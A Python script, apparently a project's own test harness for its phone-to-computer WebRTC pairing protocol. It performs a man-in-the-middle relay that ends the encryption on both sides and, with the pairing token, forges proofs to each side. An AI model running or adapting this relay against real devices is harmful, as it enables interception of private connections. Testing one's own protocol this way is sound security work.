"""A relay between a phone and the computer that ends the encryption on both sides. Prints one JSON line.

relay_attack.py LINK            hands the frames on unchanged
relay_attack.py LINK --knows    knows the code, too, and proves itself to both sides
"""

from __future__ import annotations

import asyncio
import json
import sys
import urllib.request
from typing import Any
from urllib.parse import parse_qs, urlsplit

from aiortc import RTCConfiguration, RTCPeerConnection, RTCSessionDescription

from rappd.tether import proofs, sdp
from rappd.tether.proofs import Parts

NONCE = bytes(range(16))


class End:
    """One WebRTC connection."""

    def __init__(self) -> None:
        self.peer = RTCPeerConnection(RTCConfiguration(iceServers=[]))
        self.frames: asyncio.Queue[str] = asyncio.Queue()
        self.opened = asyncio.Event()
        self.channel: Any = None

    def use(self, channel: Any) -> None:
        self.channel = channel
        channel.on("message", self.frames.put_nowait)
        channel.on("open", self.opened.set)
        if channel.readyState == "open":
            self.opened.set()

    async def offer(self) -> str:
        self.use(self.peer.createDataChannel("rapp"))
        await self.peer.setLocalDescription(await self.peer.createOffer())
        return self.peer.localDescription.sdp

    async def answer(self, offer: str) -> str:
        self.peer.on("datachannel", self.use)
        await self.peer.setRemoteDescription(RTCSessionDescription(offer, "offer"))
        await self.peer.setLocalDescription(await self.peer.createAnswer())
        return self.peer.localDescription.sdp

    async def take(self, answer: str) -> None:
        await self.peer.setRemoteDescription(RTCSessionDescription(answer, "answer"))


def post(address: str, body: dict[str, Any]) -> dict[str, Any]:
    request = urllib.request.Request(
        f"http://{address}/tether/v2/offer", json.dumps(body).encode(), {"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(request, timeout=20) as response:
        found: dict[str, Any] = json.loads(response.read())
        return found


def parts_of(said: dict[str, Any], host_sdp: str, guest_sdp: str) -> Parts:
    nonce, key = proofs.unb64(said["nonce"]), proofs.unb64(said["host_key"])
    return Parts(said["subject"], sdp.fingerprint(host_sdp), sdp.fingerprint(guest_sdp), nonce, NONCE, key)


def auth(parts: Parts, token: bytes) -> str:
    mac = proofs.b64(proofs.proof(token, "guest", parts.digest()))
    return json.dumps({"type": "auth", "nonce": proofs.b64(NONCE), "mac": mac, "name": "Phone"})


async def attack(link: str, knows: bool) -> dict[str, Any]:
    found = urlsplit(link)
    fields = parse_qs(found.fragment)
    token, window = proofs.unb64(fields["t"][0]), fields["s"][0]
    phone, left, right = End(), End(), End()
    phone_offer = await phone.offer()
    asked = {"window": window, "commit": proofs.b64(proofs.commitment(NONCE))}
    right_offer = await right.offer()
    said = await asyncio.to_thread(post, found.netloc, {**asked, "sdp": right_offer})
    await right.take(said["sdp"])
    left_answer = await left.answer(phone_offer)
    await phone.take(left_answer)
    await asyncio.gather(*(one.opened.wait() for one in (phone, left, right)))
    seen_by_phone = parts_of(said, left_answer, phone_offer)
    seen_by_computer = parts_of(said, said["sdp"], right_offer)
    phone.channel.send(auth(seen_by_phone, token))
    frame = await left.frames.get()
    right.channel.send(auth(seen_by_computer, token) if knows else frame)
    reply = json.loads(await right.frames.get())
    result = {"computer": reply["type"], "reason": reply.get("reason", "")}
    if knows:
        genuine = proofs.unb64(reply["mac"]) == proofs.proof(token, "host", seen_by_phone.digest())
        result |= {"phone accepts its proof": genuine, "phone": proofs.six_digits(seen_by_phone.digest())}
    await asyncio.sleep(0.5)
    return result


async def main() -> None:
    async with asyncio.timeout(40):
        print(json.dumps(await attack(sys.argv[1], "--knows" in sys.argv)), flush=True)
    if "--knows" in sys.argv:
        await asyncio.to_thread(sys.stdin.readline)  # the computer's digits are looked at meanwhile


asyncio.run(main())
